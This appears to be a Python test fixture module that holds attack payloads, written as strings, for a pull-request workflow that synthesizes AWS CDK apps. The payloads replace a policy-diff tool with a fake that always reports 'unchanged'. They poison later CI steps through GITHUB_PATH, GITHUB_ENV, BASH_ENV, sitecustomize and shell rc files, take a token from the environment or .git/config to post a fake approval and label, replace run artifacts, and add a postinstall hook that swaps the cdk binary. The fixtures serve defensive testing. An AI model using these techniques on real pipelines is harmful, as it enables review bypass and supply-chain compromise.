"""What the author of a pull request may try to get a wider grant merged: code that runs in their own synth."""

from typing import Final

from tests.conftest import ROOT

# What the code of a pull request may look for on the machine that runs it, and how it may call GitHub's API.
_HOSTILE: Final = r'''
import json, os, shutil, sys, sysconfig, urllib.request
from pathlib import Path

ours = Path(os.environ["CDK_OUTDIR"])
temporary, home = Path(os.environ["RUNNER_TEMP"]), Path(os.environ["HOME"])
machine = home.parent
LIE = """#!/bin/sh
for word; do case $word in --format=json) echo '{"unread": []}'; exit;; esac; done
echo '<!-- sending-policy diff -->'; echo unchanged
"""

def memory(name):
    return (machine / "memory" / name).read_text()

def ask(method, path, token, body=None):
    request = urllib.request.Request(os.environ["GITHUB_API_URL"] + path, method=method, data=body,
                                     headers={"Authorization": f"Bearer {token}"})
    try:
        with urllib.request.urlopen(request, timeout=20) as response:
            return response.read()
    except urllib.error.HTTPError as error:
        return str(error.code).encode()

def program(path, text=LIE):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.unlink(missing_ok=True)
    path.write_text(text)
    path.chmod(0o755)

def command(variable, text):
    # That of this step, and of each step that may come behind it.
    later = temporary / "_runner_file_commands" / variable.removeprefix("GITHUB_")
    for file in {Path(os.environ[variable]), later}:
        with file.open("a") as opened:
            opened.write(text)
'''

_BASELINE: Final = """
for before in (temporary / "before", Path("../before/cdk.out"), temporary.parent / "before"):
    shutil.copytree(ours, before, dirs_exist_ok=True)
"""
_TOOL: Final = """
for folder in (Path(sysconfig.get_path("scripts")), temporary / "tool" / "bin", home / ".local" / "bin"):
    program(folder / "sending-policy")
package = Path(sysconfig.get_path("purelib")) / "ses_sending_policy" / "cli"
for file in package.glob("*.py"):
    file.write_text("def run(*_): return 0\\nmain = run\\n")
"""
_PATH: Final = """
for name in ("sending-policy", "gh", "jq", "python3", "pip"):
    program(temporary / "evil" / name)
command("GITHUB_PATH", f"{temporary / 'evil'}\\n")
"""
_VARIABLES: Final = """
program(temporary / "evil.sh", "sending-policy() { echo unchanged; }; test() { true; }; exit() { true; }\\n")
starts = "import os, sys\\nif 'sending-policy' in sys.argv[0]: os._exit(0)\\n"
program(temporary / "python" / "sitecustomize.py", starts)
command("GITHUB_ENV", f"BASH_ENV={temporary / 'evil.sh'}\\nPYTHONPATH={temporary / 'python'}\\napproval=no\\n")
"""
_OUTPUTS: Final = """
command("GITHUB_OUTPUT", "approval=no\\nbefore=104\\nassembly=no\\n")
print("::set-output name=approval::no")
print("::set-output name=assembly::no")
"""
_HOME: Final = """
for name in (".bashrc", ".profile", ".bash_profile", ".bash_login"):
    program(home / name, "sending-policy() { echo unchanged; }\\n")
program(home / ".config" / "pip" / "pip.conf", "[global]\\nno-index = true\\nfind-links = /nowhere\\n")
program(home / ".config" / "gh" / "config.yml", "aliases:\\n    api: '!true'\\n")
for name in ("json.py", "zipfile.py", "jq", "gh"):
    program(Path(name), "raise SystemExit(0)\\n")
"""
_TOKEN: Final = """
kept = Path(".git/config")
for token in {os.environ.get("GH_TOKEN", ""), memory("token"), kept.read_text() if kept.exists() else ""}:
    token = token.rpartition("Bearer ")[2].strip()
    said = json.dumps({"body": "<!-- sending-policy diff -->\\nunchanged"}).encode()
    ask("POST", "/repos/example/mail/issues/7/comments", token, said)
    ask("POST", "/repos/example/mail/issues/7/labels", token, json.dumps({"labels": ["senders-approved"]}).encode())
"""
_ARTIFACTS: Final = """
import io, zipfile
made = io.BytesIO()
with zipfile.ZipFile(made, "w") as archive:
    for file in ours.rglob("*.json"):
        archive.write(file, file.relative_to(ours))
for name in ("assembly-before", "source-before", "source-after", "before"):
    ask("POST", "/runtime/" + name, memory("runtime"), made.getvalue())
"""
# `npx cdk` as changed by the pull request's packages: for the base it synthesizes the pull request's app.
_CDK: Final = f"""#!/bin/sh
mkdir -p "$RUNNER_TEMP/mine" && cp "$GITHUB_WORKSPACE/app.py" "$RUNNER_TEMP/mine/"
if test -f app.py && test "$PWD" != "$GITHUB_WORKSPACE"; then cp "$RUNNER_TEMP/mine/app.py" app.py; fi
exec node "{ROOT}/node_modules/aws-cdk/bin/cdk" "$@"
"""

SYNTHS: Final = {
    "what stands beside it is written over": _BASELINE + _TOOL,
    "later steps are prepared": _PATH + _VARIABLES + _OUTPUTS + _HOME,
    "the token is used": _TOKEN,
    "a package changes what makes the baseline": "",
}
"""What a synth does besides its work, by a description."""


PREPARED: Final = _HOSTILE + _BASELINE + _TOOL + _PATH + _VARIABLES + _OUTPUTS + _HOME
"""A synth that overwrites all it can reach, and prepares an attack on every later step."""

REPLACED: Final = _HOSTILE + _ARTIFACTS
"""A synth that replaces each artifact of its run by its own assembly."""


def attack(name: str) -> tuple[str, dict[str, str]]:
    """Return lines for the pull request's app, and its other files."""
    package = f"cat > node_modules/.bin/cdk <<'END'\n{_CDK}END\n"
    return _HOSTILE + SYNTHS[name], {} if SYNTHS[name] else {"postinstall.sh": package}
